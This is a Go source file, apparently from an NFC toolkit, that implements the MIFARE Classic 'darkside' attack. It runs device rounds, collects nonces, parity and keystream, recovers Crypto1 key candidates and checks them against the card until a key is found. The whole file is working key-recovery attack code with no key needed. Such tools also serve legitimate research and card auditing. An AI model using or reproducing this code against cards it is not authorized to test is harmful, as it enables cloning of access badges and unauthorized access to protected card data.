package mifare

import (
	"context"
	"fmt"
	"log/slog"
	"time"

	"github.com/barnettlynn/nfctools/mfcrack/pkg/crypto1"
)

const darksideTimeout = 2 * time.Second

// Darkside recovers a key through the parity oracle of cards that answer a
// bad reader response with an encrypted NACK. No key is needed.
type Darkside struct {
	Verifier *Verifier
	Block    byte
	KeyType  KeyType

	// MaxRounds bounds the number of device rounds; zero means unbounded.
	MaxRounds int
}

// Run loops over darkside rounds until a candidate verifies, ctx is done,
// the device reports the card as not vulnerable or MaxRounds is reached.
func (d *Darkside) Run(ctx context.Context) (Key, error) {
	dev := d.Verifier.Dev
	defer fieldOff(dev)

	firstRun := true
	var pool darksidePool
	for round := 1; ; round++ {
		if d.MaxRounds > 0 && round > d.MaxRounds {
			return NoKey, fmt.Errorf("darkside: no key after %d rounds: %w", d.MaxRounds, ErrInconclusive)
		}

		rep, err := d.round(ctx, firstRun)
		if err != nil {
			return NoKey, err
		}
		if rep.Parity == 0 && firstRun {
			slog.Info("Parity is all zero, the card most likely sends a NACK on every authentication")
		}
		firstRun = false

		keys := RecoverDarksideKeys(rep.UID, rep.NT, rep.NR, rep.AR, rep.Parity, rep.Keystream)
		if len(keys) == 0 {
			slog.Info("No candidates this round, retrying with a different reader nonce",
				"round", round, "nt", fmt.Sprintf("%08X", rep.NT))
			continue
		}

		candidates := pool.add(keys, rep.Parity == 0)
		if len(candidates) == 0 {
			slog.Info("No common candidates yet, trying again", "round", round, "round_candidates", len(pool.round))
			continue
		}

		slog.Info("Found candidate keys", "round", round, "count", len(candidates))
		key, ok, err := d.Verifier.CheckKeys(ctx, d.Block, d.KeyType, candidates)
		if err != nil {
			return NoKey, err
		}
		if ok {
			return key, nil
		}

		slog.Warn("All key candidates failed, restarting darkside attack", "round", round)
		pool.reject()
		firstRun = true
	}
}

// round runs one device round and polls until it reports.
func (d *Darkside) round(ctx context.Context, firstRun bool) (DarksideReport, error) {
	var rearm uint64
	if firstRun {
		rearm = 1
	}
	cmd := Command{
		Op:  OpDarkside,
		Arg: [3]uint64{uint64(d.Block), uint64(d.KeyType), rearm},
	}
	if err := send(d.Verifier.Dev, cmd); err != nil {
		return DarksideReport{}, err
	}

	for {
		if err := ctx.Err(); err != nil {
			return DarksideReport{}, fmt.Errorf("%w: %v", ErrCancelled, err)
		}
		resp, err := d.Verifier.Dev.Wait(OpDarkside, darksideTimeout)
		if err != nil {
			if IsTimeout(err) {
				continue
			}
			return DarksideReport{}, err
		}
		if resp.Arg[0] < 0 {
			return DarksideReport{}, &DeviceError{Op: OpDarkside, Status: resp.Arg[0]}
		}
		return ParseDarksideReport(resp.Data)
	}
}

// RecoverDarksideKeys turns one darkside report into key candidates. A zero
// parity word selects the parity-free expansion, which yields many more
// candidates and needs intersecting across rounds.
func RecoverDarksideKeys(uid, nt, nr, ar uint32, parity, keystream uint64) []Key {
	nr &= 0xFFFFFF1F

	var ks [8]byte
	var par [8][8]byte
	for c := 0; c < 8; c++ {
		shift := uint(8 * (7 - c))
		ks[c] = byte(keystream>>shift) & 0x0F
		pb := byte(parity >> shift)
		for i := 0; i < 8; i++ {
			par[c][i] = pb >> uint(i) & 1
		}
	}

	states := crypto1.CommonPrefix(nr, ar, ks, par, parity == 0)
	keys := make([]Key, 0, len(states))
	for _, s := range states {
		s.RollbackWord(uid^nt, false)
		keys = append(keys, Key(s.LFSR()))
	}
	return keys
}
